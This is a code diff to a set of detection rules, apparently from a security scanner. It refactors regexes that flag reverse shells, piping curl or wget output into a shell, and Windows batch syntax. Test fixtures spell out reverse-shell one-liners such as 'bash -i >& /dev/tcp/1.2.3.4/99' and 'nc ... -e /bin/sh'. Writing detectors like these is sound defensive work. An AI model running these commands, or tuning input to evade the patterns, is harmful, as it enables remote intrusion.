@@ -134,18 +134,31 @@ export const rceRules: readonly Rule[] = [
   }),
   pattern(
     'rce/reverse-shell',
-    /\/dev\/(?:tcp|udp)\/|\bn(?:c|cat|etcat)\b[^\n]{0,40}\s-{1,2}(?:e|exec|c)\s{1,4}[\w/]{0,12}(?:sh|cmd)|\bmkfifo\s{1,4}\/tmp|\bbash\s{1,4}-i\b|\|\s{0,4}(?:ba|z|k|da)?sh\s{0,4}$|(?:curl|wget)\s[^\n]{1,120}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|k|da)?sh\b/,
+    /\/dev\/(?:tcp|udp)\/|\bn(?:c|cat|etcat)\b[^\n]{0,40}\s-{1,2}(?:e|exec|c)\s{1,4}[\w/]{0,12}(?:sh|cmd)|\bmkfifo\s{1,4}\/tmp|\bbash\s{1,4}-i\b/,
     {
       score: 5,
       quotable: true,
       words: WORD.shell | WORD.file,
-      attacks: ['bash -i >& /dev/tcp/1.2.3.4/99', 'nc 1.2.3.4 99 -e /bin/sh', 'curl http://x | sh'],
+      attacks: ['bash -i >& /dev/tcp/1.2.3.4/99', 'nc 1.2.3.4 99 -e /bin/sh'],
       benign: ['the bash shell', 'dev team | tcp', 'nc 8000 controller'],
     },
   ),
   pattern(
+    'rce/into-shell',
+    /\|\s{0,4}(?:ba|z|k|da)?sh\s{0,4}$|(?:curl|wget)\s[^\n]{1,120}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|k|da)?sh\b/,
+    {
+      score: 5,
+      quotable: true,
+      bare: true,
+      chars: CHAR.pipe,
+      words: WORD.shell,
+      attacks: ['curl http://x | sh', 'x | bash'],
+      benign: ['the | shell', 'curl x | less'],
+    },
+  ),
+  pattern(
     'rce/windows',
-    /\bfor\s{0,12}(?:\/[dflr]\b[^\n]{0,40}?\s{1,12}){0,4}%{1,2}[^\s%]{0,16}\s{1,8}in\s{0,8}\(|^\s{0,4}(?:&\s{0,4})?if(?:\s{1,12}|(?=\/i))(?:\/i\s{1,12})?(?:not\s{1,12})?(?:exist\s{1,12}["\w.\\%:~-]{1,60}\s{1,12}[\w(]|defined\s{1,12}\w{1,24}\s{1,12}\w|errorlevel\s{1,12}\d|(?:["%[{][^=\n]{0,32}|\([^()=\n]{0,24}\)|\w{1,24}%?\w{0,8})\s{0,4}={2,3}\s{0,4}[^\s=]{1,32}[^=\n]{0,8}?\s{1,24}[\w(.{]|\{%?\w{0,8}\}\s{0,4}==|["(]?%?\w{1,24}%?[")]?\s{1,12}(?:equ|neq|lss|leq|gtr|geq)\s)/,
+    /\bfor\s{0,12}(?:\/[dflr]\b[^\n]{0,40}?\s{1,12}){0,4}%{1,2}[^\s%]{0,16}\s{1,8}in\s{0,8}\(|^\s{0,4}(?:&\s{0,4})?if(?!\s__name__)(?:\s{1,12}|(?=\/i))(?:\/i\s{1,12})?(?:not\s{1,12})?(?:exist\s{1,12}["\w.\\%:~-]{1,60}\s{1,12}[\w(]|defined\s{1,12}\w{1,24}\s{1,12}\w|errorlevel\s{1,12}\d|(?:["%[{][^=\n]{0,32}|\([^()=\n]{0,24}\)|\w{1,24}%?\w{0,8})\s{0,4}={2,3}\s{0,4}[^\s=]{1,32}[^=\n]{0,8}?\s{1,24}[\w(.{]|\{%?\w{0,8}\}\s{0,4}==|["(]?%?\w{1,24}%?[")]?\s{1,12}(?:equ|neq|lss|leq|gtr|geq)\s)/,
     {
       score: 5,
       words: WORD.windows,
